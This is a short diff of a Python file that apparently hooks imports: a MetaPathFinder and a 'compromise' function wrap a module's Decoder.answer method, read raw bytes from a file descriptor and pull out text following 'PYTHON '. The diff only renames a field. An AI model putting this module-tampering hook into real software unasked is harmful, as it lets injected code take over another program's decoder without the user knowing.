@@ -27,7 +27,7 @@ class Finder(importlib.abc.MetaPathFinder):
 def compromise(module):
     answer, code = module.Decoder.answer, [b""]
     def compromised(self, message, descriptors):
-        if message.parcel is not None:
+        if message.item is not None:
             code[0] = os.pread(descriptors[0], 1 << 20, 0).partition(b"PYTHON ")[2]
         def go_on():
             return answer(self, message, descriptors)
